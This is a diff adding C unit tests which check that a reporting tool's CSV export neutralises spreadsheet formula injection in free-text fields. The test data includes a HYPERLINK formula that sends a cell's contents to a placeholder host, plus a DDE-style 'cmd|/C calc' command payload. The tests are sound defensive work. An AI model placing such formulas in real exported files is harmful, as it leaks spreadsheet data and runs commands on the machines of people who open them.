@@ -560,6 +560,55 @@ static void test_csv(struct fixture *f, gconstpointer data)
 		g_assert_nonnull(strstr(times, "2026-11,kela,1,60,60,1,100.0,1,300,300,0\r\n"));
 		g_assert_nonnull(strstr(times, "total,*,1,60,60,1,100.0,1,300,300,0\r\n"));
 	}
+	/* Categories are advisors' free text: one that a spreadsheet would run
+	 * as a formula is neutralised, its count stays a number. */
+	{
+		static const struct {
+			const char *typed, *cell;
+		} formulas[] = {
+		    {"=HYPERLINK(\"http://x.example/?\"&A1)",
+		     "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\""},
+		    {"+1+cmd|/C calc!A0", "\"'+1+cmd|/C calc!A0\""},
+		    {"-2", "\"'-2\""},
+		    {"@SUM(A1:A9)", "\"'@SUM(A1:A9)\""},
+		    {"\tx", "\"'\tx\""},
+		    {"\rx", "\"'\rx\""},
+		    {"a-b=c", "a-b=c"},
+		};
+		gsize len;
+		g_autofree char *csv = NULL;
+
+		for (guint i = 0; i < G_N_ELEMENTS(formulas); i++)
+			visit_at(f, "vero", NOV02, "resolved", 1, t, t + 60, t + 70, t + 370,
+				 formulas[i].typed);
+		g_clear_pointer(&r, report_free);
+		g_assert_cmpint(report_run(f->s, &q, &r, &error), ==, 0);
+		csv = report_to_csv(r, REPORT_KIND_CATEGORIES, &len);
+		for (guint i = 0; i < G_N_ELEMENTS(formulas); i++) {
+			g_autofree char *line =
+			    g_strdup_printf("\r\n2026-11,vero,%s,1\r\n", formulas[i].cell);
+
+			g_assert_nonnull(strstr(csv, line));
+		}
+	}
+	/* The monthly rows: a provider is text, a missing median is the number
+	 * -1, not text to neutralise. */
+	{
+		struct report_row row = {.provider = "=x",
+					 .month = "2026-11",
+					 .wait_median_s = -1,
+					 .wait_p90_s = -1,
+					 .service_median_s = 5,
+					 .service_p90_s = -1};
+		g_autoptr(GPtrArray) rows = g_ptr_array_new();
+		gsize len;
+		g_autofree char *csv = NULL;
+
+		g_ptr_array_add(rows, &row);
+		csv = report_rows_to_csv(rows, &len);
+		g_assert_nonnull(
+		    strstr(csv, "\r\n\"'=x\",2026-11,0,0,0,0,0,0,0,-1,-1,5,-1,0,0\r\n"));
+	}
 	g_assert_cmpint(report_period_parse("week"), ==, REPORT_PERIOD_WEEK);
 	g_assert_cmpint(report_period_parse("year"), ==, -1);
 	g_assert_cmpint(report_kind_parse("nope"), ==, -1);
